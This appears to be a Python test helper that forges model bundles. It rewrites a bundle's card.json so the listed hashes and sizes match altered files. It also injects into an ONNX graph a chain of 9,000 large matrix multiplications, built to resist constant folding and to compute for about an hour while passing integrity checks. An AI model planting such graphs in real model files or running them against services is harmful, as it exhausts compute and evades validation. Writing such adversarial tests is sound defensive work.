"""Change a bundle as a forger would: its card still tells the truth about its files."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import onnx
from onnx import helper, numpy_helper


def edit_card(folder: Path, edit: Callable[[dict[str, Any]], object]) -> None:
    """Change what a bundle's card says."""
    card = json.loads((folder / "card.json").read_text(encoding="utf-8"))
    edit(card)
    (folder / "card.json").write_text(json.dumps(card), encoding="utf-8")


def relist(folder: Path, name: str) -> None:
    """Put a changed file's own size and sha256 on the card."""
    content = (folder / name).read_bytes()
    listed = {"sha256": hashlib.sha256(content).hexdigest(), "size_bytes": len(content)}
    edit_card(folder, lambda card: card["files"].update({name: listed}))


def never_return(folder: Path, name: str = "attack") -> None:
    """Let a graph compute for an hour: no loop, little memory, an honest card, sizes that fit.

    Onnxruntime cannot fold it away, since it begins with the latent.
    """
    model = onnx.load(folder / f"{name}.onnx", load_external_data=False)
    graph = model.graph
    graph.initializer.append(numpy_helper.from_array(np.array([1500, 1500]), "endless_shape"))
    for node in graph.node:
        node.output[:] = ["level_before" if out == "level_db" else out for out in node.output]
    nodes = [
        helper.make_node("ReduceSum", ["latent"], ["endless_sum"], keepdims=0),
        helper.make_node("Expand", ["endless_sum", "endless_shape"], ["endless_0"]),
        *(
            helper.make_node("MatMul", [f"endless_{n}", "endless_0"], [f"endless_{n + 1}"])
            for n in range(9_000)
        ),
        helper.make_node("ReduceMin", ["endless_9000"], ["endless_least"], keepdims=0),
        helper.make_node("Sign", ["endless_least"], ["endless_end"]),
        helper.make_node("Add", ["level_before", "endless_end"], ["level_db"]),
    ]
    graph.node.extend(nodes)
    (folder / f"{name}.onnx").write_bytes(model.SerializeToString())
    relist(folder, f"{name}.onnx")
